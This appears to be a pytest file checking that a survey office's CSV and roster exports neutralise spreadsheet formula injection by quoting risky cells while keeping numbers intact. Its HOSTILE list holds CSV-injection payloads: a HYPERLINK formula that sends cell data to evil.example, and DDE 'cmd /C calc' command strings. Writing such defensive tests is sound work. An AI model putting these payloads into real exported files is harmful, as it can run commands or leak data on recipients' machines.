"""Spreadsheet formulas: every CSV the office writes keeps a formula-like text cell as text.

The writers of the vendor CSV and the codes CSV are tested in tests/mailing, the codebook
XLSX in tests/forms; here the shared helper, the roster export and the dashboard CSV.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from survey.fieldwork import CohortRate, Fieldwork, rates_csv
from survey.roster import RosterRecord, write_csv
from survey.spreadsheet import FORMULA_START, DictWriter, cell, writer

# What a hostile register (or anything else) could try: each starts a formula in Excel.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
]


def formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would take for a formula: text starting with a trigger."""
    return [c for row in rows for c in row if c.startswith(FORMULA_START) and not _is_number(c)]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_get_a_quote(value: str) -> None:
    assert cell(value) == "'" + value


@pytest.mark.parametrize("value", [-1, -7, -9, -3.5, 0, 12, "-1", "-7", "-9", "-0.25", "-1e3"])
def test_numbers_stay_numbers(value: object) -> None:
    # The missing codes -1 to -9, and negative numbers in general, are not text to protect.
    assert cell(value) == value


@pytest.mark.parametrize("value", ["志木　太郎", "", "'=already", "353-0004", "ＡＢＣ", "1-2-3"])
def test_ordinary_text_is_unchanged(value: str) -> None:
    assert cell(value) == value


def test_writers_escape_every_cell_and_keep_numbers() -> None:
    buf = io.StringIO()
    w = writer(buf)
    w.writerow(["h", *HOSTILE])
    w.writerows([[-7, "-8", "=1"]])
    d = DictWriter(buf, fieldnames=["a", "b"])
    d.writeheader()
    d.writerow({"a": "@x", "b": -9})
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows[0][1:] == ["'" + v for v in HOSTILE]
    assert rows[1] == ["-7", "-8", "'=1"]
    assert rows[2:] == [["a", "b"], ["'@x", "-9"]]
    assert formula_cells(rows) == []


def test_roster_export_escapes_hostile_register_values(tmp_path: Path) -> None:
    records = [
        RosterRecord(
            cohort=cohort,
            unit_id=f"U{i}",
            resident_id=f"R{i}",
            name=value,
            name_kana="",
            postal_code="3530004",
            address=value,
            building=value,
            checkup=value if cohort == "infant_guardian" else "",
        )
        for i, value in enumerate(HOSTILE)
        for cohort in ("general", "infant_guardian")
    ]
    out = tmp_path / "roster.csv"
    assert write_csv(records, out) == len(records)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert formula_cells(rows) == []
    general = rows[1]
    assert general[5] == "'" + HOSTILE[0]  # the address, quoted, otherwise intact
    assert general[2] == "'" + HOSTILE[0] + " 様"  # the addressee starts with the name
    guardian = rows[2]
    assert guardian[3] == "'" + HOSTILE[0]  # the child's name


def test_dashboard_csv_escapes_text_and_keeps_numbers() -> None:
    rates = [CohortRate("general", '=HYPERLINK("x")', 10, 0, -7, 3)]
    work = Fieldwork("s", rates, {}, {}, {}, None, None)
    text = rates_csv(work).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][:2] == ["general", '\'=HYPERLINK("x")']
    assert rows[1][5] == "-7"  # a number stays a number
    assert formula_cells(rows) == []
